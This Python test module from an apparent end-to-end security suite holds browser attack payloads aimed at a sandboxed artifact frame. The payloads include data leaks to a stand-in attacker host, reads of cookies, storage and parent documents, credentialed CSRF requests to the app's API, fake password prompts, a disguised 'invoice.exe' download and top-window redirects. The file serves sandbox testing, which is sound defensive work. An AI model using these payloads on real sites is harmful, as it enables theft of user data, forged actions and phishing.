"""The attacks as small scripts and markup.

`T` names the targets (`template`); `leak(name)` is an address of the attacker's, `won(name)` says that the page got
what it wanted. Scripts run in an async function, each for itself; a failure is silent.
"""

import json

from tests.e2e.attacks.evil import Evil

_HEAD = """<!doctype html><meta charset="utf-8"><title>attack</title><script>
window.wins = []; window.T = %s;
const won = (name) => wins.push(name), leak = (name) => `${T.evil}/leak/${name}`;
const nested = (markup) => { const f = document.createElement("iframe"); if (markup !== undefined) f.srcdoc = markup;
  document.body.append(f); return f; };
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
</script><body>"""


def template(evil: Evil, app: str, other: str, secret: str) -> str:
    """The start of every attacking page."""
    targets = {"evil": evil.origin, "app": app, "other": other, "secret": secret, "ports": evil.ports}
    return _HEAD % json.dumps(targets)


def script(code: str) -> str:
    return f"<script>(async () => {{ {code} }})().catch(() => 0)</script>"


_RTC = """const c = new %s({ iceServers: [{ urls: `stun:127.0.0.1:${T.ports["%s"]}` }] });
c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer());"""
_WORKER = 'new Worker(URL.createObjectURL(new Blob([`%s`], { type: "text/javascript" })))'

# Send something out. The evidence is at the attacker's.
LEAKS_BY_SCRIPT = {
    "fetch": 'await fetch(leak("fetch"), { mode: "no-cors" })',
    "fetch-keepalive": 'await fetch(leak("fetch-keepalive"), { mode: "no-cors", keepalive: true, method: "POST" })',
    "fetch-later": 'fetchLater(leak("fetch-later"), { activateAfter: 0 })',
    "xhr": 'const x = new XMLHttpRequest(); x.open("GET", leak("xhr")); x.send()',
    "beacon": 'navigator.sendBeacon(leak("beacon"), "x")',
    "websocket": 'new WebSocket(leak("websocket").replace("http", "ws"))',
    "eventsource": 'new EventSource(leak("eventsource"))',
    "image": 'new Image().src = leak("image")',
    "audio": 'new Audio(leak("audio")).load()',
    "import": 'await import(leak("import"))',
    "worklet": 'await CSS.paintWorklet.addModule(leak("worklet"))',
    "font-face": 'await new FontFace("x", `url(${leak("font-face")})`).load()',
    "worker-fetch": _WORKER % '${`fetch("${leak("worker-fetch")}", { mode: "no-cors" })`}',
    "worker-import": _WORKER % '${`importScripts("${leak("worker-import")}")`}',
    "webrtc": _RTC % ("RTCPeerConnection", "webrtc"),
    "webrtc-nested": _RTC % ("(nested().contentWindow.RTCPeerConnection)", "webrtc-nested"),
    "webtransport": 'await new WebTransport(`https://127.0.0.1:${T.ports["webtransport"]}/`).ready',
    "nested-location": 'nested().contentWindow.location = leak("nested-location")',
    "nested-srcdoc-fetch": 'nested(`<script>fetch("${leak("nested-srcdoc-fetch")}", { mode: "no-cors" })<\\/script>`)',
    "nested-srcdoc-meta": 'nested(`<meta http-equiv=refresh content="0;url=${leak("nested-srcdoc-meta")}">`)',
    "nested-blank-image": 'new (nested().contentWindow.Image)().src = leak("nested-blank-image")',
    "nested-data-page": """const f = document.createElement("iframe");
        f.src = `data:text/html,<img src="${leak("nested-data-page")}">`; document.body.append(f)""",
    "nested-blob-page": """const f = document.createElement("iframe");
        f.src = URL.createObjectURL(new Blob([`<img src="${leak("nested-blob-page")}">`], { type: "text/html" }));
        document.body.append(f)""",
    "form": """const f = document.createElement("form"); f.action = leak("form"); f.target = "sink"; f.method = "post";
        const sink = nested(); sink.name = "sink"; document.body.append(f); f.submit()""",
    "ping": """const a = document.createElement("a"); a.href = "#ping"; a.ping = leak("ping");
        document.body.append(a); a.click()""",
}
LEAKS_BY_MARKUP = {
    "script-src": '<script src="{leak}"></script>',
    "stylesheet": '<link rel="stylesheet" href="{leak}">',
    "css-import": '<style>@import "{leak}";</style>',
    "css-background": '<p style="background: url({leak})">x',
    "css-font": '<style>@font-face {{ font-family: thief; src: url({leak}) }}</style><p style="font-family: thief">x',
    "css-cursor": "<p style='list-style-image: url({leak}); display: list-item'>x",
    "preload": '<link rel="preload" as="fetch" crossorigin href="{leak}">',
    "modulepreload": '<link rel="modulepreload" href="{leak}">',
    "prefetch": '<link rel="prefetch" href="{leak}">',
    "picture": '<picture><source srcset="{leak}"><img></picture>',
    "video": '<video autoplay muted src="{leak}"></video>',
    "video-poster": '<video poster="{leak}"></video>',
    "track": '<video crossorigin autoplay muted src="data:video/mp4,x"><track default src="{leak}"></video>',
    "svg-image": '<svg><image href="{leak}" width="9" height="9"/></svg>',
    "svg-filter": """<svg><filter id="f"><feImage href="{leak}"/></filter>
        <rect width="9" height="9" filter="url(#f)"/></svg>""",
    "input-image": '<input type="image" src="{leak}">',
    "frame": '<iframe src="{leak}"></iframe>',
    "frame-srcdoc": "<iframe srcdoc='<img src={leak}>'></iframe>",
    "object": '<object data="{leak}"></object>',
    "embed": '<embed src="{leak}">',
    "import-map": """<script type="importmap">{{"imports": {{"thief": "{leak}"}}}}</script>
        <script type="module">import "thief"</script>""",
}

# Get at what is not the page's. The evidence is in the page: `won`.
GRABS = {
    "cookie": 'document.cookie.includes(T.secret) && won("cookie")',
    "local-storage": 'localStorage.getItem("secret") === T.secret && won("local-storage")',
    "session-storage": 'sessionStorage.getItem("secret") === T.secret && won("session-storage")',
    "indexed-db": '(await indexedDB.databases()).some((d) => d.name === T.secret) && won("indexed-db")',
    "cache-storage": '(await caches.keys()).includes(T.secret) && won("cache-storage")',
    "file-system": 'await navigator.storage.getDirectory() && won("file-system")',
    "parent-document": 'parent.document.body && won("parent-document")',
    "top-document": 'top.document.querySelector("h1") && won("top-document")',
    "parent-variable": 'parent.appSecret === T.secret && won("parent-variable")',
    "parent-address": 'parent.location.href && won("parent-address")',
    "frame-element": 'frameElement.removeAttribute("sandbox"); won("frame-element")',
    "service-worker": 'await navigator.serviceWorker.register("sw.js"); won("service-worker")',
    "shared-worker": 'const w = new SharedWorker("sw.js"); w.onerror = () => 0; w.port && won("shared-worker")',
    "other-page": '(await (await fetch(T.other)).text()).includes(T.secret) && won("other-page")',
    "app-api": '(await fetch(`${T.app}/api/conversations`, { credentials: "include" })).ok && won("app-api")',
    "app-socket": 'new WebSocket(`${T.app.replace("http", "ws")}/ws`).onopen = () => won("app-socket")',
    "camera": 'await navigator.mediaDevices.getUserMedia({ video: true }); won("camera")',
    "microphone": 'await navigator.mediaDevices.getUserMedia({ audio: true }); won("microphone")',
    "geolocation": 'navigator.geolocation.getCurrentPosition(() => won("geolocation"))',
    "notifications": 'new Notification("x").onshow = () => won("notifications")',
    "protected-media": """await navigator.requestMediaKeySystemAccess("org.w3.clearkey",
        [{ videoCapabilities: [{ contentType: 'video/webm; codecs="vp8"' }] }]); won("protected-media")""",
    "payment": """new PaymentRequest([{ supportedMethods: "https://pay.example" }],
        { total: { label: "x", amount: { currency: "EUR", value: "1" } } }); won("payment")""",
    "storage-persistence": 'await navigator.storage.persisted(); won("storage-persistence")',
    "sync-xhr": """const x = new XMLHttpRequest(); x.open("GET", "index.html", false); x.send();
        x.status && won("sync-xhr")""",
    "keyboard-map": 'await navigator.keyboard.getLayoutMap(); won("keyboard-map")',
}

# Get the app to write something, or to go somewhere.
WRITES = {
    "csrf-fetch": """await fetch(`${T.app}/api/artifacts`, { method: "POST", credentials: "include", mode: "no-cors",
        body: JSON.stringify({ title: "csrf-fetch", files: { "index.html": "leak=csrf-fetch&" } }) })""",
    "csrf-beacon": """navigator.sendBeacon(`${T.app}/api/artifacts`,
        JSON.stringify({ title: "csrf-beacon", files: { "index.html": "leak=csrf-beacon&" } }))""",
    "csrf-form": """const f = document.createElement("form"); f.method = "post"; f.enctype = "text/plain";
        f.action = `${T.app}/api/artifacts`; f.target = "csrf";
        const field = document.createElement("input"); field.name = '{"title": "csrf-form", "x": "leak=csrf-form&';
        field.value = '", "files": {"index.html": "x"}}'; f.append(field);
        const sink = nested(); sink.name = "csrf"; document.body.append(f); f.submit()""",
}

# These need a person's click in the frame: `click` of a button with the attack's name.
BY_CLICK = {
    "popup": 'open(leak("popup"))',
    "popup-blank": 'open("about:blank", "_blank", "width=100,height=100")',
    "popup-anchor": """const a = document.createElement("a"); a.href = leak("popup-anchor"); a.target = "_blank";
        document.body.append(a); a.click()""",
    "popup-form": """const f = document.createElement("form"); f.action = leak("popup-form"); f.target = "_blank";
        document.body.append(f); f.submit()""",
    "popup-app": "open(`${T.app}/accounts/login/`)",
    "alert": 'alert("Your session has ended. Your password?")',
    "confirm": 'confirm("Delete everything?")',
    "prompt": 'prompt("Your password?")',
    "download": """const a = document.createElement("a"); a.download = "invoice.exe";
        a.href = URL.createObjectURL(new Blob(["MZ"])); document.body.append(a); a.click()""",
    "download-data": """const a = document.createElement("a"); a.download = "x.html";
        a.href = "data:text/html,x"; document.body.append(a); a.click()""",
    "full-screen": 'await document.documentElement.requestFullscreen(); won("full-screen")',
    "picture-in-picture": """const v = document.createElement("video"), c = document.createElement("canvas");
        c.getContext("2d").fillRect(0, 0, 9, 9); v.srcObject = c.captureStream(); v.muted = true; await v.play();
        await v.requestPictureInPicture(); won("picture-in-picture")""",
    "clipboard-read": 'await navigator.clipboard.readText(); won("clipboard-read")',
    "clipboard-write": 'await navigator.clipboard.writeText("attacked")',
    "clipboard-command": """const t = document.createElement("textarea"); t.value = "attacked by command";
        document.body.append(t); t.select(); document.execCommand("copy")""",
    "clipboard-event": """addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", "attacked by event");
        e.preventDefault() }); document.execCommand("copy")""",
    "screen-capture": 'await navigator.mediaDevices.getDisplayMedia(); won("screen-capture")',
}

# The same in a document within the artifact's.
BY_CLICK_NESTED = {
    "clipboard-nested": """const t = document.createElement("textarea"); t.value = "attacked from a nested document";
        document.body.append(t); t.select(); document.execCommand("copy")""",
    "clipboard-nested-api": 'await navigator.clipboard.writeText("attacked from a nested document")',
    "popup-nested": 'open("about:blank")',
}

# Leave the frame, or lead the app elsewhere. One page load each; the evidence is where things are afterwards.
NAVIGATIONS = {
    "top-location": script('top.location = leak("top-location")'),
    "top-href": script('top.location.href = leak("top-href")'),
    "top-replace": script('top.location.replace(leak("top-replace"))'),
    "parent-location": script('parent.location = leak("parent-location")'),
    "open-top": script('open(leak("open-top"), "_top")'),
    "form-top": '<form action="{leak}" target="_top"></form><script>document.forms[0].submit()</script>',
    "anchor-top": '<a href="{leak}" target="_top" id="a">x</a><script>a.click()</script>',
    "base-top": '<base target="_top"><a href="{leak}" id="a">x</a><script>a.click()</script>',
    "javascript-top": script('top.location = `javascript:fetch("${leak("javascript-top")}")`'),
    "nested-top": script('nested(`<script>top.location = "${leak("nested-top")}"<\\/script>`)'),
    "self-location": script('location = leak("self-location")'),
    "self-anchor": '<a href="{leak}" id="a">x</a><script>a.click()</script>',
    "self-form": """<form action="{leak}"><input name="q" value="secret"></form>
        <script>document.forms[0].submit()</script>""",
    "meta-refresh": '<meta http-equiv="refresh" content="0; url={leak}">',
    "self-open": script('open(leak("self-open"), "_self")'),
    "self-navigation-api": script('navigation.navigate(leak("self-navigation-api"))'),
}
